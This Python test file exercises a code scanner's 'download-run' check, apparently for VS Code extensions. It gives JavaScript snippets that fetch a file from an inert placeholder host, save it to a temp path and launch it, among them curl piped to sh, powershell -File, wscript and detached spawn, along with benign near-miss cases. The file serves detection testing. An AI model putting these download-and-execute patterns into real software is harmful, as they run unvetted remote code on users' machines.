"""Downloads that are saved and started. Payloads are inert: hosts end in .invalid."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.download_run import CHECK

RULE = "download-run"
START = """
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const cp = require("child_process"), vscode = require("vscode"), url = "https://a.invalid/s";
"""


@pytest.mark.parametrize(
    "source",
    [
        (
            "const f = path.join(os.tmpdir(), 'a.exe'); fetch(url).then((r) => r.arrayBuffer())"
            ".then((b) => { fs.writeFileSync(f, Buffer.from(b)); cp.execFile(f); });"
        ),
        (
            "const f = os.tmpdir() + '/a'; https.get(url, (r) => {"
            " const s = fs.createWriteStream(f); r.pipe(s); s.on('finish', () => cp.spawn(f)); });"
        ),
        (
            "const f = os.tmpdir() + '/a.js'; https.get(url, (r) =>"
            " r.pipe(fs.createWriteStream(f)));"
            " setTimeout(() => require(f), 5000);"
        ),
        (
            "async function f() { const p = path.join(os.tmpdir(), 'a.ps1');"
            " await fs.promises.writeFile(p, await (await fetch(url)).text());"
            " cp.exec(`powershell -File ${p}`); }"
        ),
        (
            "async function f() { const p = '/tmp/.cache-a'; const { data } ="
            " await require('axios').get(url); fs.writeFileSync(p, data, { mode: 0o755 });"
            " cp.spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); }"
        ),
        (
            "const save = (p, d) => fs.writeFileSync(p, d); const f = os.tmpdir() + '/a.vbs';"
            " fetch(url).then((r) => r.text()).then((t) => { save(f, t);"
            " cp.exec('wscript ' + f); });"
        ),
        "cp.execSync('curl -s -o /tmp/aaa https://a.invalid/s'); cp.exec('sh /tmp/aaa');",
        "cp.execSync('curl -so /tmp/a.js https://a.invalid/s'); cp.spawn('node', ['/tmp/a.js']);",
        (
            "class I { constructor() { this.file = os.tmpdir() + '/a.exe'; }"
            " async get() { fs.writeFileSync(this.file, await (await fetch(url)).text()); }"
            " run() { cp.spawn(this.file, { windowsHide: true }); } }"
        ),
    ],
)
def test_a_download_that_is_started_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        (
            "const f = os.tmpdir() + '/a.png'; fetch(url).then((r) => r.text()).then((t) => {"
            " fs.writeFileSync(f, t); cp.exec('git status'); });"
        ),
        (
            "const f = os.tmpdir() + '/a.exe'; fetch(url).then((r) => r.text()).then((t) =>"
            " fs.writeFileSync(f, t));"
        ),
        (
            "fs.writeFileSync(os.tmpdir() + '/a.js', 'work()'); cp.fork(os.tmpdir() + '/a.js');"
            " fetch(url);"
        ),
        (
            "async function f(c) { const p = path.join(c.globalStorageUri.fsPath, 'server');"
            " const ok = await vscode.window.showInformationMessage('Download the server?', 'Yes');"
            " if (!ok) return; fs.writeFileSync(p, await (await fetch(url)).text()); cp.spawn(p); }"
        ),
        (
            "async function f() { const p = path.join(os.tmpdir(), 'server');"
            " const data = Buffer.from(await (await fetch(url)).arrayBuffer());"
            " const digest = require('crypto').createHash('sha256').update(data).digest('hex');"
            " if (digest !== expected) throw new Error(); fs.writeFileSync(p, data); cp.spawn(p); }"
        ),
        (
            "fetch(url).then((r) => r.json()).then((j) => {"
            " fs.writeFileSync(os.tmpdir() + '/a.json', j.text); require('./own'); });"
        ),
        "cp.execSync('curl -s -o /tmp/aaa.tgz https://a.invalid/s'); cp.exec('ls /tmp');",
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


def test_the_message_has_the_source_and_all_lines() -> None:
    source = """\
const fs = require('fs'), file = require('os').tmpdir() + '/a.exe';
async function load() {
  const answer = await fetch('https://a.invalid/s');
  fs.writeFileSync(file, await answer.text());
  require('child_process').spawn(file);
}
"""
    (finding,) = findings_of(CHECK, source)
    assert "fetch https://a.invalid/s (line 3)" in finding.message
    assert "(line 4)" in finding.message
    assert "starts it (line 5)" in finding.message
    assert finding.line == 5
